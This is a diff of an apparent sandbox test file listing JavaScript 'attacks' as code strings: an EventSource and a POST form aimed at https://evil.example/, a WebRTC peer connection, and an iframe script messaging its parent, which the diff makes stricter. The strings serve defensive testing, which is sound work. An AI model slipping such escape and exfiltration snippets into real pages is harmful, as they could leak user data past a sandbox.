@@ -21,7 +21,7 @@ const attacks = {
     "await new Promise((ok, no) => Object.assign(new EventSource('https://evil.example/'), { onopen: ok, onerror: no }))",
   'ask another browser': 'new RTCPeerConnection()',
   'run a script in a frame':
-    "const f = Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, \"*\")<\\/script>' }); const sent = new Promise((ok) => addEventListener('message', ok)); document.body.append(f); await sent",
+    "const f = Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, \"*\")<\\/script>' }); const sent = new Promise((ok) => addEventListener('message', ({ data }) => data === 'function' && ok())); document.body.append(f); await sent",
   'send a form':
     "const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post', target: '_top' }); document.body.append(f); f.submit(); throw 0",
   'prefetch a page':
